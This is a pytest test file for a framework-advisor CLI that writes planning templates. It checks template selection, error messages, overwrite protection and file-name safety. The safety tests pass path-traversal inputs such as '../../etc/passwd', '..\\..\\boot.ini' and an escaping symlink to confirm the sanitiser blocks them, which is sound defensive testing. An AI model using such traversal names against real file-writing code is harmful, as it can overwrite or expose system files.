def test_mix_writes_the_templates_of_the_recommended_mix(
    run_cli: Run, kb: KnowledgeBase, tmp_path: Path, sample: Path
) -> None:
    result = ok(run_cli("templates", "--mix", "--answers", sample, "-f", "md", "--out", tmp_path))
    written = sorted(p.name for p in tmp_path.iterdir())
    assert written == expected_mix_files(kb, sample, ".md")
    phases = recommend(kb, read_answers(kb, sample).answers).phases
    mix = [fid for phase in phases for fid in phase.frameworks]
    for fid in mix:
        if not templates_for(fid):
            assert kb.frameworks[fid].name in result.stderr
            assert "no starter template" in result.stderr
    if all(templates_for(fid) for fid in mix):
        assert "no starter template" not in result.stderr


def test_mix_names_uncovered_frameworks(
    run_cli: Run, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from framework_advisor.domain.recommendation import Phase
    from framework_advisor.engine import recommend as engine

    real = engine.recommend

    def with_raci(kb: Any, answers: Any, **kwargs: Any) -> Any:
        import msgspec

        result = real(kb, answers, **kwargs)
        extra = Phase(9, ["raci", "mckinsey_7s"], "roles", "later", [], 0)
        return msgspec.structs.replace(result, phases=[*result.phases, extra])

    monkeypatch.setattr(engine, "recommend", with_raci)
    startup = SAMPLES / "startup.yaml"
    folder = without_templates_for(tmp_path, "raci", "mckinsey_7s")
    result = ok(run_cli("--kb", folder, "templates", "--mix", "-a", startup, "-f", "md",
                        "--out", tmp_path / "out"))  # fmt: skip
    assert "RACI Matrix, McKinsey 7S Framework (in the plan)" in result.stderr


def test_mix_needs_answers(run_cli: Run, tmp_path: Path) -> None:
    fails(run_cli("templates", "--mix", "--out", tmp_path), "--mix needs --answers")
    assert not any(tmp_path.iterdir())


@pytest.mark.parametrize(
    ("ids", "files"),
    [
        (["okr_kpi_hybrid"], ["kpi-dashboard.md", "okr-planning-sheet.md"]),
        (["okr", "okr-planning-sheet", "kpi"], ["kpi-dashboard.md", "okr-planning-sheet.md"]),
        (["bsc", "north_star", "4dx"], ["4dx-tracker.md", "balanced-scorecard.md", "north-star-canvas.md"]),
        (["EOS", "north-star", "V2MOM", "smart", "mbo"], ["eos-vto.md", "mbo-tracker.md", "north-star-canvas.md", "smart-worksheet.md", "v2mom-planner.md"]),
    ],
)  # fmt: skip
def test_framework_ids_stand_for_their_templates(
    run_cli: Run, tmp_path: Path, ids: list[str], files: list[str]
) -> None:
    ok(run_cli("templates", *ids, "-f", "md", "--out", tmp_path))
    assert sorted(p.name for p in tmp_path.iterdir()) == files


@pytest.mark.parametrize(
    ("given", "suggestion"),
    [("okr-planing-sheet", "okr-planning-sheet"), ("kpii", "kpi"), ("eos-vt", "eos-vto")],
)
def test_unknown_id_exits_2_with_did_you_mean(
    run_cli: Run, tmp_path: Path, given: str, suggestion: str
) -> None:
    fails(
        run_cli("templates", "okr", given, "--out", tmp_path / "out"),
        f"no template or framework '{given}'",
        f"Did you mean '{suggestion}'?",
    )
    assert not (tmp_path / "out").exists()


def without_templates_for(tmp_path: Path, *framework_ids: str) -> Path:
    """A pack whose copies of our templates for these frameworks serve OKR instead, so that
    the frameworks have none (every framework of ours has one)."""
    files = {"pack.yaml": "name: bare\nversion: '1'\nschema_version: 2\n"}
    for fid in framework_ids:
        for tid in templates_in(TEMPLATES, fid):
            text = (ROOT / "knowledge" / "templates" / f"{tid}.yaml").read_text(encoding="utf-8")
            files[f"templates/{tid}.yaml"] = text.replace(
                f"frameworks: [{fid}]", "frameworks: [okr]"
            )
    return build_tree(tmp_path / "bare-pack", files)


def test_a_framework_without_a_template_is_named(run_cli: Run, tmp_path: Path) -> None:
    folder = without_templates_for(tmp_path, "raci")
    fails(
        run_cli("--kb", folder, "templates", "raci", "--out", tmp_path / "out"),
        "RACI Matrix has no starter template",
    )


# -- writing safely --------------------------------------------------------------------------


def test_never_overwrites_without_force(run_cli: Run, tmp_path: Path) -> None:
    ok(run_cli("templates", "okr", "-f", "csv", "--out", tmp_path))
    objectives = tmp_path / "okr-planning-sheet--objectives.csv"
    objectives.write_text("mine", encoding="utf-8")
    result = fails(
        run_cli("templates", "kpi", "okr", "-f", "csv", "--out", tmp_path),
        "--force",
        str(objectives),
        "nothing was written",
    )
    assert "wrote" not in result.stderr
    assert objectives.read_text(encoding="utf-8") == "mine"
    assert not (tmp_path / "kpi-dashboard.csv").exists()  # checked before writing any
    ok(run_cli("templates", "kpi", "okr", "-f", "csv", "--out", tmp_path, "--force"))
    assert objectives.read_text(encoding="utf-8-sig").startswith("ID,Objective")
    assert (tmp_path / "kpi-dashboard.csv").exists()
    assert not [p for p in tmp_path.iterdir() if p.name.endswith(".tmp")]


def test_out_must_be_a_folder(run_cli: Run, tmp_path: Path) -> None:
    a_file = tmp_path / "file.txt"
    a_file.write_text("x", encoding="utf-8")
    result = run_cli("templates", "okr", "--out", a_file)
    assert result.exit_code == 2 and "Traceback" not in result.stderr
    assert a_file.read_text(encoding="utf-8") == "x"


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("okr-planning-sheet--key-results.csv", "okr-planning-sheet--key-results.csv"),
        ("../../etc/passwd", "etc-passwd"),
        ("..\\..\\boot.ini", "boot.ini"),
        ("/abs/olute.xlsx", "abs-olute.xlsx"),
        ("a\x00b\nc\x7f.md", "a-b-c.md"),
        ("..", "file"),
        ("", "file"),
        ("CON.csv", "_CON.csv"),
        ('what?*:<>|".docx', "what.docx"),
    ],
)
def test_safe_file_name(name: str, expected: str) -> None:
    assert safe_file_name(name) == expected


def test_safe_file_name_caps_the_length_and_keeps_the_suffix() -> None:
    name = safe_file_name("é" * 300 + ".xlsx")
    assert name.endswith(".xlsx") and len(name.encode("utf-8")) <= 120
    assert "/" not in name and ".." not in name


def test_nothing_is_written_outside_the_folder(tmp_path: Path) -> None:
    out = tmp_path / "out"
    written = write_files(out, [OutputFile(name="../../escape.csv", data=b"x")], force=False)
    assert written == [out / "escape.csv"]
    assert (out / "escape.csv").read_bytes() == b"x"
    assert not (tmp_path / "escape.csv").exists()
    outside = tmp_path / "outside.csv"
    outside.write_text("keep", encoding="utf-8")
    (out / "link.csv").symlink_to(outside)
    with pytest.raises(OutputError, match="outside"):
        safe_target(out, "link.csv")
    with pytest.raises(OutputError, match="outside"):
        write_files(out, [OutputFile(name="link.csv", data=b"x")], force=True)
    assert outside.read_text(encoding="utf-8") == "keep"


@pytest.mark.subprocess
def test_templates_command_stays_off_office_libraries_until_needed(tmp_path: Path) -> None:
    """Markdown templates need neither openpyxl nor python-docx; neither does loading the templates."""
    code = (
        "import json, os, sys\n"
        f"os.environ['FRAMEWORK_ADVISOR_CACHE_DIR'] = {str(tmp_path / 'cache')!r}\n"
        "from framework_advisor.cli import cli\n"
        "try:\n"
        f"    cli.main(['templates', '-f', 'md', '--out', {str(tmp_path / 'md')!r}],"
        " standalone_mode=False)\n"
        "except SystemExit:\n"
        "    pass\n"
        "print(json.dumps(sorted(sys.modules)))\n"
    )
    out = subprocess.run(
        [sys.executable, "-c", code], capture_output=True, text=True, check=True
    ).stdout
    loaded = set(json.loads(out.splitlines()[-1]))
    assert "framework_advisor.render.starter.md" in loaded
    assert not {m.split(".")[0] for m in loaded} & {"openpyxl", "docx", "textual"}
    assert len(list((tmp_path / "md").iterdir())) == len(TEMPLATES)
